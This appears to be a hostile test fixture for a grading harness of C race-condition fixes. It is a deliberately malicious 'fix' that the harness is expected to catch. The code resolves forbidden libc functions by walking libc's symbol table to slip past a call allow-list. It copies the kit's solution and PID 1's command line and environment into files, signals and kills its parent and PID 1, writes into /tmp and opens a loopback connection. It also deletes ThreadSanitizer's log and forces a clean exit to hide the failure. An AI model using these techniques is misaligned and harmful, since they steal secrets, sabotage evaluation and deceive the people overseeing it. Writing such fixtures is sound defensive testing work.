/* hostile (should FAIL tsan: "removed or silenced"; must see, break and
 * keep nothing): a fix whose result is right but which races on a counter
 * of its own, and then does what the call allow-list was meant to stop.
 * It finds any libc function by walking libc's dynamic symbol table from
 * the address of an allowed one (no forbidden name in its objects), and:
 *   - reads what is not its own: the kit's solution, the grader's command
 *     line and environment (/proc/1, its parent), the runner's cache,
 *     writing what it read into its working directory (the oracle reads it);
 *   - breaks the grading: signals every process it can (kill -1), its
 *     parent, writes into /tmp and the kit, connects to the loopback;
 * SOLUTION_PATH is replaced by the test with the kit's solution file.
 *   - removes TSan's log (its path is in TSAN_OPTIONS) and leaves through
 *     _exit(0) from an atexit handler, past TSan's exit code.
 * Bounded: a fixed number of tries, no loop without an end. */
#include "database.h"

#include <pthread.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static long value;
static long racy_count;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

struct elf_header { unsigned char ident[16]; uint16_t type, machine; uint32_t version;
    uint64_t entry, phoff, shoff; uint32_t flags; uint16_t ehsize, phentsize, phnum,
    shentsize, shnum, shstrndx; };
struct program_header { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct dynamic_entry { int64_t tag; uint64_t value; };
struct symbol { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };

static uintptr_t libc_base(void)
{
    uintptr_t page = (uintptr_t)&strtol & ~(uintptr_t)4095;
    for (int i = 0; i < 4096; i++, page -= 4096)
        if (memcmp((const void *)page, "\177ELF", 4) == 0)
            return page;
    return 0;
}

static void *libc_function(const char *wanted)
{
    uintptr_t base = libc_base();
    if (base == 0)
        return NULL;
    const struct elf_header *elf = (const void *)base;
    const struct program_header *ph = (const void *)(base + elf->phoff);
    const struct dynamic_entry *dyn = NULL;
    for (int i = 0; i < elf->phnum; i++)
        if (ph[i].type == 2)
            dyn = (const void *)(base + ph[i].vaddr);
    uintptr_t strtab = 0, symtab = 0;
    for (; dyn != NULL && dyn->tag != 0; dyn++) {
        uintptr_t at = dyn->value < base ? base + dyn->value : dyn->value;
        if (dyn->tag == 5)
            strtab = at;
        if (dyn->tag == 6)
            symtab = at;
    }
    if (strtab == 0 || symtab == 0 || strtab < symtab)
        return NULL;
    const struct symbol *symbols = (const void *)symtab;
    size_t count = (strtab - symtab) / sizeof *symbols;
    for (size_t i = 0; i < count; i++)
        if (symbols[i].value != 0 && strcmp((const char *)strtab + symbols[i].name, wanted) == 0)
            return (void *)(base + symbols[i].value);
    return NULL;
}

typedef int (*open_fn)(const char *, int, ...);
typedef long (*io_fn)(int, void *, unsigned long);
typedef int (*int_fn)(int);
typedef int (*kill_fn)(int, int);
typedef int (*path_fn)(const char *);
typedef char *(*getenv_fn)(const char *);
typedef int (*atexit_fn)(void (*)(void *), void *, void *);
typedef void (*exit_fn)(int);
typedef int (*socket_fn)(int, int, int);
typedef int (*connect_fn)(int, const void *, unsigned);

/* Copies up to 4 KiB of PATH into the file NAME of the working directory. */
static void steal(const char *path, const char *name)
{
    open_fn open_ = (open_fn)libc_function("open");
    io_fn read_ = (io_fn)libc_function("read"), write_ = (io_fn)libc_function("write");
    int_fn close_ = (int_fn)libc_function("close");
    if (open_ == NULL || read_ == NULL || write_ == NULL || close_ == NULL)
        return;
    int in = open_(path, 0);
    if (in < 0)
        return;
    char text[4096];
    long got = read_(in, text, sizeof text);
    close_(in);
    int out = open_(name, 01 | 0100 | 01000, 0644);
    if (out >= 0 && got > 0)
        write_(out, text, (unsigned long)got);
    if (out >= 0)
        close_(out);
}

static void leave_quietly(void *unused)
{
    (void)unused;
    exit_fn exit_ = (exit_fn)libc_function("_exit");
    if (exit_ != NULL)
        exit_(0);
}

static void remove_tsan_log(void)
{
    getenv_fn getenv_ = (getenv_fn)libc_function("getenv");
    path_fn unlink_ = (path_fn)libc_function("unlink");
    int_fn getpid_ = (int_fn)libc_function("getpid");
    const char *options = getenv_ != NULL ? getenv_("TSAN_OPTIONS") : NULL;
    const char *at = options != NULL ? strstr(options, "log_path=") : NULL;
    if (at == NULL || unlink_ == NULL || getpid_ == NULL)
        return;
    char path[512];
    size_t n = strcspn(at + 9, " ");
    if (n > 400)
        return;
    memcpy(path, at + 9, n);
    snprintf(path + n, sizeof path - n, ".%d", getpid_(0));
    unlink_(path);
}

static void break_the_grading(void)
{
    kill_fn kill_ = (kill_fn)libc_function("kill");
    int_fn getppid_ = (int_fn)libc_function("getppid");
    socket_fn socket_ = (socket_fn)libc_function("socket");
    connect_fn connect_ = (connect_fn)libc_function("connect");
    if (kill_ != NULL && getppid_ != NULL) {
        kill_(getppid_(0), 19); /* SIGSTOP */
        kill_(getppid_(0), 9);
        kill_(1, 9);
    }
    steal("/etc/hostname", "/tmp/race-kit-hostile-was-here");
    if (socket_ != NULL && connect_ != NULL) {
        int fd = socket_(2, 1, 0);
        unsigned char address[16] = { 2, 0, 0, 22, 127, 0, 0, 1 };
        if (fd >= 0)
            connect_(fd, address, sizeof address);
    }
}

void database_update(void)
{
    racy_count++;
    pthread_mutex_lock(&lock);
    long local_copy = value;
    local_copy += 1;
    simulated_delay();
    value = local_copy;
    pthread_mutex_unlock(&lock);
}

long database_value(void)
{
    steal(SOLUTION_PATH, "stolen-solution.txt");
    steal("/proc/1/cmdline", "stolen-cmdline.txt");
    steal("/proc/1/environ", "stolen-environ.txt");
    steal("/proc/self/../1/environ", "stolen-environ-2.txt");
    break_the_grading();
    remove_tsan_log();
    atexit_fn atexit_ = (atexit_fn)libc_function("__cxa_atexit");
    if (atexit_ != NULL)
        atexit_(leave_quietly, NULL, NULL);
    return value;
}
